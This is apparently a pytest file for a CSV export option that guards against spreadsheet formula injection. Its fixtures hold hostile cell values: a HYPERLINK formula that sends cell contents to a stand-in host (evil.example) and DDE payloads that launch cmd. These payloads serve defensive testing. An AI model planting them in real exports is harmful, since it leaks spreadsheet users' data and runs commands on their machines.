"""CSV for a spreadsheet: ``--excel-safe`` (and ``excel_safe=True``) quotes what a
spreadsheet would run as a formula; without it, CSV is the W3C format, value for value."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
import sys
from pathlib import Path

import pyoxigraph as ox
import pytest
from rdflib import XSD, Literal
from typer.testing import CliRunner

from reformgraph import pipeline
from reformgraph.cli import app
from reformgraph.errors import QueryError
from reformgraph.queries import QueryResult, excel_safe_text, format_csv

runner = CliRunner()

XSD_NS = "http://www.w3.org/2001/XMLSchema#"
LABEL = "http://www.w3.org/2000/01/rdf-schema#label"
#: Labels from someone else's RDF, each a formula to a spreadsheet, with a number beside it.
THEIRS = f"""\
<http://ex/1> <{LABEL}> "=HYPERLINK(\\"http://evil.example/\\"&A1,\\"x\\")"@zh .
<http://ex/1> <http://ex/n> "-3"^^<{XSD_NS}integer> .
<http://ex/2> <{LABEL}> "+86 27 1234" .
<http://ex/2> <http://ex/n> "-2.5"^^<{XSD_NS}decimal> .
<http://ex/3> <{LABEL}> "-3" .
<http://ex/3> <http://ex/n> "-1.5E3"^^<{XSD_NS}double> .
<http://ex/4> <{LABEL}> "@SUM(1+1)"@en .
<http://ex/4> <http://ex/n> "-INF"^^<{XSD_NS}double> .
<http://ex/5> <{LABEL}> "\\t=1+1" .
<http://ex/5> <http://ex/n> "-0044-03-15"^^<{XSD_NS}date> .
<http://ex/6> <{LABEL}> "\\r=1+1" .
<http://ex/6> <http://ex/n> "+7"^^<{XSD_NS}integer> .
<http://ex/7> <{LABEL}> "\\n=1+1" .
<http://ex/7> <http://ex/n> "0"^^<{XSD_NS}integer> .
<http://ex/8> <{LABEL}> "a=b, -c" .
<http://ex/8> <http://ex/n> "\\uFF1D1+1" .
"""
QUERY = f"SELECT ?s ?l ?n WHERE {{ ?s <{LABEL}> ?l ; <http://ex/n> ?n }} ORDER BY ?s"
BOM = "\ufeff"
#: The W3C SPARQL 1.1 CSV of the answer: every value as it is (the numbers as Oxigraph
#: writes them: -1.5E3 as -1500, +7 as 7).
W3C_CSV = (
    BOM + "s,l,n\r\n"
    'http://ex/1,"=HYPERLINK(""http://evil.example/""&A1,""x"")",-3\r\n'
    "http://ex/2,+86 27 1234,-2.5\r\n"
    "http://ex/3,-3,-1500\r\n"
    "http://ex/4,@SUM(1+1),-INF\r\n"
    "http://ex/5,\t=1+1,-0044-03-15\r\n"
    'http://ex/6,"\r=1+1",7\r\n'
    'http://ex/7,"\n=1+1",0\r\n'
    'http://ex/8,"a=b, -c",\uff1d1+1\r\n'
)
#: The same answer for a spreadsheet: a ' before each text a spreadsheet would run, the
#: numbers (typed xsd:integer, decimal, double) as they are, each value between double
#: quotes (so that a spreadsheet splitting at ";" keeps a value whole).
EXCEL_SAFE_CSV = (
    BOM + '"s","l","n"\r\n'
    '"http://ex/1","\'=HYPERLINK(""http://evil.example/""&A1,""x"")","-3"\r\n'
    '"http://ex/2","\'+86 27 1234","-2.5"\r\n'
    '"http://ex/3","\'-3","-1500"\r\n'
    '"http://ex/4","\'@SUM(1+1)","\'-INF"\r\n'
    '"http://ex/5","\'\t=1+1","\'-0044-03-15"\r\n'
    '"http://ex/6","\'\r=1+1","7"\r\n'
    '"http://ex/7","\'\n=1+1","0"\r\n'
    '"http://ex/8","a=b, -c","\'\uff1d1+1"\r\n'
)


@pytest.fixture
def theirs(tmp_path: Path) -> Path:
    graph = tmp_path / "theirs.nt"
    graph.write_text(THEIRS, encoding="utf-8")
    return graph


@pytest.fixture(scope="module")
def formula_build(build_dir: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A copy of the build whose store also holds the triples of :data:`THEIRS`, as a build
    of data with such labels would."""
    copy = tmp_path_factory.mktemp("formulas") / "build"
    shutil.copytree(build_dir, copy)
    store = ox.Store(str(copy / "store"))
    store.bulk_extend(ox.parse(THEIRS.encode(), format=ox.RdfFormat.N_TRIPLES))
    store.flush()
    del store
    return copy


def test_csv_writes_formula_like_values_as_they_are_and_excel_safe_quotes_them(
    theirs: Path,
) -> None:
    plain = runner.invoke(app, ["query", QUERY, "--graph", str(theirs), "-f", "csv"])
    assert plain.exit_code == 0, plain.output
    assert plain.stdout_bytes == W3C_CSV.encode("utf-8")
    safe = runner.invoke(app, ["query", QUERY, "--graph", str(theirs), "-f", "csv", "--excel-safe"])
    assert safe.exit_code == 0, safe.output
    assert safe.stdout_bytes == EXCEL_SAFE_CSV.encode("utf-8")


def test_excel_safe_csv_saved_to_a_file_is_quoted_as_printed(theirs: Path, tmp_path: Path) -> None:
    target = tmp_path / "answer.csv"
    result = runner.invoke(
        app, ["query", QUERY, "--graph", str(theirs), "--save", str(target), "--excel-safe"]
    )
    assert result.exit_code == 0, result.output
    assert target.read_bytes() == EXCEL_SAFE_CSV.encode("utf-8")


def test_excel_safe_csv_of_a_build_is_quoted_on_the_command_line_and_from_python(
    formula_build: Path, tmp_path: Path
) -> None:
    printed = runner.invoke(
        app, ["query", QUERY, "--build", str(formula_build), "-f", "csv", "--excel-safe"]
    )
    assert printed.exit_code == 0, printed.output
    assert printed.stdout_bytes == EXCEL_SAFE_CSV.encode("utf-8")
    exported = tmp_path / "answer.csv"
    assert pipeline.export_query(formula_build, QUERY, exported, excel_safe=True) == 8
    assert exported.read_bytes() == EXCEL_SAFE_CSV.encode("utf-8")
    pipeline.export_query(formula_build, QUERY, exported)  # the default: W3C CSV
    assert exported.read_bytes() == W3C_CSV.encode("utf-8")


@pytest.mark.parametrize("output_format", ["json", "nt", "ttl"])
def test_export_query_refuses_excel_safe_for_another_format_and_writes_nothing(
    formula_build: Path, tmp_path: Path, output_format: str
) -> None:
    target = tmp_path / f"answer.{output_format}"
    with pytest.raises(QueryError, match=f"excel_safe=True applies to CSV.*{output_format}"):
        pipeline.export_query(
            formula_build, QUERY, target, output_format=output_format, excel_safe=True
        )
    assert not target.exists()


@pytest.mark.parametrize(
    ("options", "said"),
    [
        ([], "a table (the default) keeps every value as it is"),
        (["-f", "table"], "a table (-f table)"),
        (["-f", "json"], "JSON (-f json)"),
        (["--save", "answer.json"], "JSON (--save answer.json)"),
        (["-f", "csv", "--save", "answer.json"], None),
        (["-f", "ttl"], "Turtle (-f ttl)"),
    ],
    ids=["table", "table-given", "json", "json-saved", "csv-into-json-file", "ttl"],
)
def test_excel_safe_with_another_format_is_refused_before_anything_is_written(
    theirs: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    options: list[str],
    said: str | None,
) -> None:
    monkeypatch.chdir(tmp_path)
    result = runner.invoke(app, ["query", QUERY, "--graph", str(theirs), "--excel-safe", *options])
    if said is None:  # -f csv says the format, whatever the file is called
        assert result.exit_code == 0, result.output
        assert (tmp_path / "answer.json").read_bytes() == EXCEL_SAFE_CSV.encode("utf-8")
        return
    assert result.exit_code == 2, result.output
    assert result.stdout == ""
    assert said in result.stderr
    assert "--excel-safe applies to CSV" in result.stderr
    assert "give -f csv (or --save FILE.csv), or leave out --excel-safe" in result.stderr
    assert "Traceback" not in result.output
    assert not (tmp_path / "answer.json").exists()


@pytest.mark.parametrize(
    ("options", "refused"),
    [(["-f", "csv"], False), ([], True), (["-f", "json"], True), (["cases"], True)],
    ids=["csv", "table", "json", "one-query"],
)
def test_listing_the_queries_takes_excel_safe_as_csv_only(
    options: list[str], refused: bool
) -> None:
    result = runner.invoke(app, ["query", "--list", "--excel-safe", *options])
    if not refused:
        assert result.exit_code == 0, result.output
        header = BOM + '"query","question","questionZh","parameters"\r\n'
        assert result.stdout_bytes.startswith(header.encode("utf-8"))
        return
    assert result.exit_code == 2, result.output
    assert "--excel-safe applies to CSV" in result.stderr


@pytest.mark.parametrize(
    ("term", "text"),
    [
        (ox.Literal("=1+1"), "'=1+1"),
        (ox.Literal("-3"), "'-3"),  # a string, not a number
        (ox.Literal("-3", language="zh"), "'-3"),
        (ox.Literal("-3", datatype=ox.NamedNode(XSD_NS + "integer")), "-3"),
        (ox.Literal("-3", datatype=ox.NamedNode(XSD_NS + "negativeInteger")), "-3"),
        (ox.Literal("+3", datatype=ox.NamedNode(XSD_NS + "unsignedByte")), "+3"),
        (ox.Literal("-.5", datatype=ox.NamedNode(XSD_NS + "decimal")), "-.5"),
        (ox.Literal("-1.5e-3", datatype=ox.NamedNode(XSD_NS + "float")), "-1.5e-3"),
        (ox.Literal("-INF", datatype=ox.NamedNode(XSD_NS + "float")), "'-INF"),
        (ox.Literal("-1.5E3", datatype=ox.NamedNode(XSD_NS + "decimal")), "'-1.5E3"),
        (ox.Literal("-3+cmd|' /C calc'!A0", datatype=ox.NamedNode(XSD_NS + "integer")), None),
        (ox.Literal("-3", datatype=ox.NamedNode("http://ex/number")), "'-3"),
        (ox.Literal("-\uff13", datatype=ox.NamedNode(XSD_NS + "integer")), "'-\uff13"),
        (Literal("-3", datatype=XSD.positiveInteger), "-3"),  # rdflib's, as load_graph gives
        (Literal("-3"), "'-3"),
        (Literal("@x", lang="en"), "'@x"),
        (ox.NamedNode("http://ex/-3"), "http://ex/-3"),
        (ox.BlankNode("b1"), "_:b1"),
        (None, ""),
        (ox.Literal("3-1"), "3-1"),
        (ox.Literal(" =1+1"), "' =1+1"),  # LibreOffice, trimming spaces, runs it
        (ox.Literal("  -3", datatype=ox.NamedNode(XSD_NS + "integer")), "'  -3"),
        (ox.Literal(" 3"), " 3"),
        (ox.Literal("\u00a0=1+1"), "\u00a0=1+1"),  # not trimmed: text to LibreOffice
        # the full-width = + - @, which Excel in a Japanese locale takes for = + - @
        (ox.Literal("\uff1d1+1"), "'\uff1d1+1"),
        (ox.Literal("\uff0b1+1", language="zh"), "'\uff0b1+1"),
        (ox.Literal("\uff0d1+1"), "'\uff0d1+1"),
        (ox.Literal("\uff20SUM(1+1)"), "'\uff20SUM(1+1)"),
        (ox.Literal("\x00=1+1"), "'\x00=1+1"),  # OWASP ASVS 1.2.10
        (ox.Literal("a\uff1d1+1"), "a\uff1d1+1"),
        (ox.Literal("|cmd"), "|cmd"),  # no formula to a spreadsheet: OWASP does not list them
        (ox.Literal("%1"), "%1"),
    ],
)
def test_excel_safe_quotes_every_formula_start_but_a_number_of_an_xsd_number_type(
    term: object, text: str | None
) -> None:
    expected = text if text is not None else "'-3+cmd|' /C calc'!A0"
    assert excel_safe_text(term) == expected


def test_excel_safe_leaves_the_header_and_an_ask_answer_as_they_are_between_quotes() -> None:
    assert format_csv(QueryResult(variables=[], boolean=False), excel_safe=True) == (
        BOM + '"boolean"\r\n"false"\r\n'
    ).encode("utf-8")


def test_the_console_scripts_fast_path_writes_the_same_excel_safe_csv(formula_build: Path) -> None:
    """A plain local query is answered without the full command line (see
    ``tests/test_entry.py``), --excel-safe too; with another format, the full command
    line refuses it."""
    probe = (
        "import sys\n"
        f"sys.argv = ['reformgraph', 'query', {QUERY!r}, '-f', 'csv', '--excel-safe',"
        f" '--build', {str(formula_build)!r}]\n"
        "from reformgraph.entry import main\n"
        "main()\n"
        "sys.stdout.flush()\n"
        "print(' '.join(sorted({m.split('.')[0] for m in sys.modules})), file=sys.stderr)\n"
    )
    fast = subprocess.run(
        [sys.executable, "-c", probe], capture_output=True, check=False, timeout=120
    )
    assert fast.returncode == 0, fast.stderr.decode()
    assert fast.stdout == EXCEL_SAFE_CSV.encode("utf-8")
    assert "typer" not in fast.stderr.decode().split()  # answered on the fast path
    script = Path(sys.executable).with_name("reformgraph")
    refused = subprocess.run(
        [str(script), "query", QUERY, "--excel-safe", "-f", "json", "--build", str(formula_build)],
        capture_output=True,
        check=False,
        timeout=120,
    )
    assert refused.returncode == 2
    assert refused.stdout == b""
    assert b"--excel-safe applies to CSV" in refused.stderr


#: English labels of the curated data made formulas, as a contributor's labels could be:
#: China's (a place many cases share) and vehicle-road cooperation's (a concept --suggest
#: pairs with another).
FORMULA_LABELS = {
    '"China"@en': "=1+cmd|' /C calc'!A0",
    '"vehicle-road cooperation"@en': "-2+3+cmd|' /C calc'!A0",
}


@pytest.fixture(scope="module")
def formula_label_graph(build_dir: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The built N-Triples with :data:`FORMULA_LABELS`."""
    graph = tmp_path_factory.mktemp("formula-label") / "graph.nt"
    text = (build_dir / "reformgraph.nt").read_text(encoding="utf-8")
    for label, formula in FORMULA_LABELS.items():
        assert text.count(label) == 2  # its skos:prefLabel and rdfs:label
        text = text.replace(label, f'"{formula}"@en')
    graph.write_text(text, encoding="utf-8")
    return graph


@pytest.mark.parametrize(
    "command",
    [["links"], ["links", "--suggest"], ["network", "--out", "{tmp}"]],
    ids=["links", "suggest", "network"],
)
def test_links_and_network_csv_quote_a_formula_label_with_excel_safe_only(
    formula_label_graph: Path, tmp_path: Path, command: list[str]
) -> None:
    words = [word.replace("{tmp}", str(tmp_path)) for word in command]
    base = [*words, "--graph", str(formula_label_graph), "-f", "csv"]
    plain = runner.invoke(app, base)
    safe = runner.invoke(app, [*base, "--excel-safe"])
    assert plain.exit_code == 0, plain.output
    assert safe.exit_code == 0, safe.output
    plain_csv = plain.stdout_bytes.decode("utf-8")
    shown = [f for f in FORMULA_LABELS.values() if f",{f}" in plain_csv]  # W3C: as it is
    assert shown, "no formula label in the answer"
    rows = [
        [f"'{value}" if value in shown else value for value in row]
        for row in csv.reader(io.StringIO(plain_csv.removeprefix(BOM), newline=""))
    ]
    safe_expected = io.StringIO()
    csv.writer(safe_expected, lineterminator="\r\n", quoting=csv.QUOTE_ALL).writerows(rows)
    assert safe.stdout_bytes.decode("utf-8") == BOM + safe_expected.getvalue()


@pytest.mark.parametrize("command", [["links"], ["network"]])
@pytest.mark.parametrize(
    ("options", "said"),
    [([], "a table (the default)"), (["-f", "json"], "JSON (-f json)")],
    ids=["table", "json"],
)
def test_links_and_network_refuse_excel_safe_for_another_format_before_any_work(
    build_dir: Path, tmp_path: Path, command: list[str], options: list[str], said: str
) -> None:
    out = ["--out", str(tmp_path / "net")] if command == ["network"] else []
    result = runner.invoke(
        app, [*command, *out, "--build", str(build_dir), "--excel-safe", *options]
    )
    assert result.exit_code == 2, result.output
    assert f"--excel-safe applies to CSV, for a spreadsheet; {said}" in result.stderr
    assert "give -f csv, or leave out --excel-safe" in result.stderr
    assert not (tmp_path / "net").exists()


#: Labels with a ";": a spreadsheet that splits a line at ";" (Excel in some locales,
#: LibreOffice when asked to) would make a cell of "=1+1" unless the value is quoted whole.
SEMICOLONS = """\
<http://ex/1> <http://ex/says> "a;=1+1;" .
<http://ex/2> <http://ex/says> ";=1+1;" .
<http://ex/3> <http://ex/says> "\\";=1+1;" .
<http://ex/4> <http://ex/says> "a\\";=1+1;"@zh .
<http://ex/5> <http://ex/says> "\\"a" .
<http://ex/a;=1+1> <http://ex/says> "x" .
"""
SEMICOLON_QUERY = "SELECT ?s ?l WHERE { ?s <http://ex/says> ?l } ORDER BY ?s"


def test_excel_safe_puts_each_value_between_quotes_so_a_semicolon_does_not_split_it(
    tmp_path: Path,
) -> None:
    """Each value between double quotes, as OWASP advises: LibreOffice, splitting at ";",
    keeps the line one cell; a value that begins with ";" (or a quote, and has a ";") gets
    a ' so that its opening quote does not end the quoted text. W3C CSV is unchanged."""
    graph = tmp_path / "semicolons.nt"
    graph.write_text(SEMICOLONS, encoding="utf-8")
    base = ["query", SEMICOLON_QUERY, "--graph", str(graph), "-f", "csv"]
    plain = runner.invoke(app, base)
    assert plain.exit_code == 0, plain.output
    assert plain.stdout_bytes.decode("utf-8") == (
        BOM + "s,l\r\n"
        "http://ex/1,a;=1+1;\r\n"
        "http://ex/2,;=1+1;\r\n"
        'http://ex/3,""";=1+1;"\r\n'
        'http://ex/4,"a"";=1+1;"\r\n'
        'http://ex/5,"""a"\r\n'
        "http://ex/a;=1+1,x\r\n"
    )
    safe = runner.invoke(app, [*base, "--excel-safe"])
    assert safe.exit_code == 0, safe.output
    assert safe.stdout_bytes.decode("utf-8") == (
        BOM + '"s","l"\r\n'
        '"http://ex/1","a;=1+1;"\r\n'
        '"http://ex/2","\';=1+1;"\r\n'
        '"http://ex/3","\'"";=1+1;"\r\n'
        '"http://ex/4","a"";=1+1;"\r\n'
        '"http://ex/5","""a"\r\n'
        '"http://ex/a;=1+1","x"\r\n'
    )
